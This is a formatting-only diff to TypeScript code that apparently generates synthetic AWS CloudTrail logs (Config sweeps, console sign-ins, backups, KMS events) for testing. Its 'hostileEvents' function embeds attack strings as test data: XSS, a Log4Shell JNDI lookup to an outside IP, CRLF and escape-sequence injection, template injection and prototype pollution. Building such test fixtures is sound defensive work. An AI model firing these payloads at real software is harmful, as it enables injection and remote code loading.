@@ -28,7 +28,12 @@ const S3_CONFIG_READS: [string, string, string, string][] = [
   ['GetBucketReplication', 'replication', 'ReplicationConfigurationNotFoundError', 'The replication configuration was not found'],
   ['GetBucketCors', 'cors', 'NoSuchCORSConfiguration', 'The CORS configuration does not exist'],
   ['GetBucketWebsite', 'website', 'NoSuchWebsiteConfiguration', 'The specified bucket does not have a website configuration'],
-  ['GetObjectLockConfiguration', 'object-lock', 'ObjectLockConfigurationNotFoundError', 'Object Lock configuration does not exist for this bucket'],
+  [
+    'GetObjectLockConfiguration',
+    'object-lock',
+    'ObjectLockConfigurationNotFoundError',
+    'Object Lock configuration does not exist for this bucket',
+  ],
 ];
 
 export function configNoise(env: Env, start: number, end: number): CloudTrailRecord[] {
@@ -41,13 +46,26 @@ export function configNoise(env: Env, start: number, end: number): CloudTrailRec
   for (const sweep of every(start, end - 5 * 60_000, Date.UTC(2020, 0, 1, 1, 9, 16), 12 * HOUR)) {
     const accessKeyId = `ASIA${rng.upper(16)}`;
     out.push(buildRecord(env, config, sweep, assumeRoleCall(env, role, 'AWSConfig-Describe', sweep, accessKeyId)));
-    const caller = roleCaller(env, role, 'AWSConfig-Describe', { creationMs: sweep, invokedBy: 'config.amazonaws.com', accessKeyId, vpce: inv.vpcEndpointS3 });
+    const caller = roleCaller(env, role, 'AWSConfig-Describe', {
+      creationMs: sweep,
+      invokedBy: 'config.amazonaws.com',
+      accessKeyId,
+      vpce: inv.vpcEndpointS3,
+    });
     let t = sweep + 30_000;
     for (const bucket of inv.buckets) {
       for (const [name, sub, code, message] of S3_CONFIG_READS) {
         const exists =
-          !code || (name === 'GetBucketPolicy' && hasPolicy.has(bucket)) || (name === 'GetBucketCors' && inv.corsBuckets.includes(bucket)) || (name === 'GetBucketWebsite' && inv.websiteBuckets.includes(bucket));
-        const call = { source: 's3', name, readOnly: true, ...s3Call({ env, caller, requestID: '', t }, sub, { bucket, bytesOut: rng.int(300, 700) }) };
+          !code ||
+          (name === 'GetBucketPolicy' && hasPolicy.has(bucket)) ||
+          (name === 'GetBucketCors' && inv.corsBuckets.includes(bucket)) ||
+          (name === 'GetBucketWebsite' && inv.websiteBuckets.includes(bucket));
+        const call = {
+          source: 's3',
+          name,
+          readOnly: true,
+          ...s3Call({ env, caller, requestID: '', t }, sub, { bucket, bytesOut: rng.int(300, 700) }),
+        };
         out.push(buildRecord(env, caller, t, exists ? call : { ...call, errorCode: code, errorMessage: message }));
       }
       t += rng.int(200, 2500);
@@ -61,7 +79,11 @@ export function configNoise(env: Env, start: number, end: number): CloudTrailRec
   for (const sweep of every(start, end - 5 * 60_000, Date.UTC(2020, 0, 1, 9, 9, 17), DAY)) {
     const accessKeyId = `ASIA${rng.upper(16)}`;
     out.push(buildRecord(env, config, sweep, assumeRoleCall(env, role, 'LambdaDescribeHandlerSession', sweep, accessKeyId)));
-    const caller = roleCaller(env, role, 'LambdaDescribeHandlerSession', { creationMs: sweep, invokedBy: 'config.amazonaws.com', accessKeyId });
+    const caller = roleCaller(env, role, 'LambdaDescribeHandlerSession', {
+      creationMs: sweep,
+      invokedBy: 'config.amazonaws.com',
+      accessKeyId,
+    });
     let t = sweep + 2000;
     for (const functionName of inv.functions) {
       const call = { source: 'lambda', name: 'GetPolicy20150331v2', readOnly: true, req: { functionName }, version: '1.08' };
@@ -115,7 +137,13 @@ export function consoleSignIns(env: Env, start: number, end: number): CloudTrail
   const firstLocalMidnight = Math.ceil((start + offset) / DAY) * DAY - offset;
   const sso = (roleKey: 'ssoAdmin' | 'ssoReadOnly', who: string, ip: string, ua: string, t: number) => {
     const role = inv.roles[roleKey];
-    const identity = { type: 'AssumedRole', principalId: `${role.id}:${who}`, arn: `arn:aws:sts::${accountId}:assumed-role/${role.name}/${who}`, accountId, accessKeyId: '' };
+    const identity = {
+      type: 'AssumedRole',
+      principalId: `${role.id}:${who}`,
+      arn: `arn:aws:sts::${accountId}:assumed-role/${role.name}/${who}`,
+      accountId,
+      accessKeyId: '',
+    };
     return loginRecord(env, { t, caller: { arn: identity.arn, ip, ua, identity: () => identity }, identity, mfa: 'No', global: false });
   };
   const hiro = inv.users.hiro;
@@ -136,23 +164,58 @@ export function consoleSignIns(env: Env, start: number, end: number): CloudTrail
       // a mistyped password before one of the sign-ins, at least once
       if (!hiroFailed || rng.chance(0.2)) {
         hiroFailed = true;
-        out.push(loginRecord(env, { t: h - 40_000, caller, identity: hiroIdentity, mfa: 'No', global: false, failure: 'Failed authentication' }));
+        out.push(
+          loginRecord(env, { t: h - 40_000, caller, identity: hiroIdentity, mfa: 'No', global: false, failure: 'Failed authentication' }),
+        );
       }
-      out.push(loginRecord(env, { t: h, caller, identity: hiroIdentity, mfa: 'Yes', global: false, mfaIdentifier: `arn:aws:iam::${accountId}:mfa/${hiro.name}` }));
+      out.push(
+        loginRecord(env, {
+          t: h,
+          caller,
+          identity: hiroIdentity,
+          mfa: 'Yes',
+          global: false,
+          mfaIdentifier: `arn:aws:iam::${accountId}:mfa/${hiro.name}`,
+        }),
+      );
     }
   }
   // A failed sign-in with a mistyped user name (the input could be a password, so CloudTrail hides it)
   const hidden = start + (end - start) * 0.55;
   const stranger = { type: 'IAMUser', principalId: '', accountId, accessKeyId: '', userName: 'HIDDEN_DUE_TO_SECURITY_REASONS' };
   const strangerCaller: Caller = { arn: '', ip: '185.220.101.47', ua: UA.browserWin, identity: () => stranger };
-  out.push(loginRecord(env, { t: hidden, caller: strangerCaller, identity: stranger, mfa: 'No', global: true, failure: 'No username found in supplied account' }));
+  out.push(
+    loginRecord(env, {
+      t: hidden,
+      caller: strangerCaller,
+      identity: stranger,
+      mfa: 'No',
+      global: true,
+      failure: 'No username found in supplied account',
+    }),
+  );
   // The root user signs in once (recorded in us-east-1) and looks at the account
   const rootT = start + (end - start) * 0.3;
   const root = rootCaller(env, '203.0.113.24', UA.browser, rootT);
   const rootIdentity = { type: 'Root', principalId: accountId, arn: `arn:aws:iam::${accountId}:root`, accountId, accessKeyId: '' };
-  out.push(loginRecord(env, { t: rootT, caller: root, identity: rootIdentity, mfa: 'Yes', global: true, mfaIdentifier: `arn:aws:iam::${accountId}:mfa/root-account-mfa-device` }));
+  out.push(
+    loginRecord(env, {
+      t: rootT,
+      caller: root,
+      identity: rootIdentity,
+      mfa: 'Yes',
+      global: true,
+      mfaIdentifier: `arn:aws:iam::${accountId}:mfa/root-account-mfa-device`,
+    }),
+  );
   let t = rootT + 20_000;
-  for (const key of ['iam:GetAccountSummary', 'iam:ListMFADevices', 'iam:GetAccountPasswordPolicy', 'iam:ListUsers', 'iam:ListAccessKeys']) {
+  for (const key of [
+    'iam:GetAccountSummary',
+    'iam:ListMFADevices',
+    'iam:GetAccountPasswordPolicy',
+    'iam:ListUsers',
+    'iam:ListAccessKeys',
+  ]) {
     out.push(catalogRecord(env, root, key, (t += rng.int(2000, 15000)), { ua: UA.console }));
   }
   return out;
@@ -167,9 +230,22 @@ export function backupJobs(env: Env, start: number, end: number): CloudTrailReco
   for (const t0 of every(start + 60_000, end - 10 * 60_000, Date.UTC(2020, 0, 1, 3, 0, 4) - offset, DAY)) {
     const accessKeyId = `ASIA${rng.upper(16)}`;
     out.push(buildRecord(env, backup, t0, assumeRoleCall(env, inv.roles.backup, 'AWSBackup-AWSBackupDefaultServiceRole', t0, accessKeyId)));
-    const caller = roleCaller(env, inv.roles.backup, 'AWSBackup-AWSBackupDefaultServiceRole', { creationMs: t0, invokedBy: 'backup.amazonaws.com', accessKeyId });
+    const caller = roleCaller(env, inv.roles.backup, 'AWSBackup-AWSBackupDefaultServiceRole', {
+      creationMs: t0,
+      invokedBy: 'backup.amazonaws.com',
+      accessKeyId,
+    });
     let t = t0 + 3000;
-    for (const key of ['dynamodb:DescribeTable', 'dynamodb:CreateBackup', 'dynamodb:CreateBackup', 'rds:DescribeDBInstances', 'rds:CreateDBSnapshot', 'ec2:DescribeVolumes', 'ec2:CreateSnapshot', 'ec2:CreateSnapshot']) {
+    for (const key of [
+      'dynamodb:DescribeTable',
+      'dynamodb:CreateBackup',
+      'dynamodb:CreateBackup',
+      'rds:DescribeDBInstances',
+      'rds:CreateDBSnapshot',
+      'ec2:DescribeVolumes',
+      'ec2:CreateSnapshot',
+      'ec2:CreateSnapshot',
+    ]) {
       out.push(catalogRecord(env, caller, key, (t += rng.int(500, 20000))));
     }
   }
@@ -179,7 +255,13 @@ export function backupJobs(env: Env, start: number, end: number): CloudTrailReco
 /** An AwsServiceEvent: KMS rotates a key by itself and says so, with no request ID. */
 export function serviceEvents(env: Env, start: number, end: number): CloudTrailRecord[] {
   const key = env.inv.keys[1];
-  const caller: Caller = { arn: 'kms.amazonaws.com', ip: 'kms.amazonaws.com', ua: '', invokedBy: 'kms.amazonaws.com', identity: () => ({ accountId: env.accountId, invokedBy: 'kms.amazonaws.com' }) };
+  const caller: Caller = {
+    arn: 'kms.amazonaws.com',
+    ip: 'kms.amazonaws.com',
+    ua: '',
+    invokedBy: 'kms.amazonaws.com',
+    identity: () => ({ accountId: env.accountId, invokedBy: 'kms.amazonaws.com' }),
+  };
   const t = start + (end - start) * 0.42;
   return [
     buildRecord(env, caller, t, {
@@ -204,17 +286,30 @@ export function hostileEvents(env: Env, start: number, end: number): CloudTrailR
     source: 'ssm',
     name: 'PutParameter',
     readOnly: false,
-    req: { name, type: 'String', value: 'HIDDEN_DUE_TO_SECURITY_REASONS', overwrite: false, description: '"><svg onload=alert(document.domain)>' },
+    req: {
+      name,
+      type: 'String',
+      value: 'HIDDEN_DUE_TO_SECURITY_REASONS',
+      overwrite: false,
+      description: '"><svg onload=alert(document.domain)>',
+    },
     errorCode: 'ValidationException',
     errorMessage: `1 validation error detected: Value '${name}' at 'name' failed to satisfy constraint: Member must satisfy regular expression pattern: ^[a-zA-Z0-9_.\\-/]+$`,
   });
-  const b = userCaller(env, inv.users.ci, '198.51.100.66', 'Mozilla/5.0 ${jndi:ldap://198.51.100.66/a}\u001b[31mRED\u001b[0m\r\nX-Injected: 1\u202etxt.exe');
-  const fn = 'javascript:alert(1)//"><svg/onload=alert(2)>{{constructor.constructor(\'alert(3)\')()}}';
+  const b = userCaller(
+    env,
+    inv.users.ci,
+    '198.51.100.66',
+    'Mozilla/5.0 ${jndi:ldap://198.51.100.66/a}\u001b[31mRED\u001b[0m\r\nX-Injected: 1\u202etxt.exe',
+  );
+  const fn = "javascript:alert(1)//\"><svg/onload=alert(2)>{{constructor.constructor('alert(3)')()}}";
   const second = buildRecord(env, b, start + (end - start) * 0.71, {
     source: 'lambda',
     name: 'GetFunction20150331v2',
     readOnly: true,
-    req: JSON.parse(`{"functionName":${JSON.stringify(fn)},"qualifier":"$LATEST\\u0000","__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}`),
+    req: JSON.parse(
+      `{"functionName":${JSON.stringify(fn)},"qualifier":"$LATEST\\u0000","__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}`,
+    ),
     errorCode: 'ValidationException',
     errorMessage: `1 validation error detected: Value '${fn}' at 'functionName' failed to satisfy constraint: Member must satisfy regular expression pattern: (arn:(aws[a-zA-Z-]*)?:lambda:)?([a-z]{2}(-gov)?-[a-z]+-\\d{1}:)?(\\d{12}:)?(function:)?([a-zA-Z0-9-_\\.]+)(:(\\$LATEST|[a-zA-Z0-9-_]+))?`,
   });
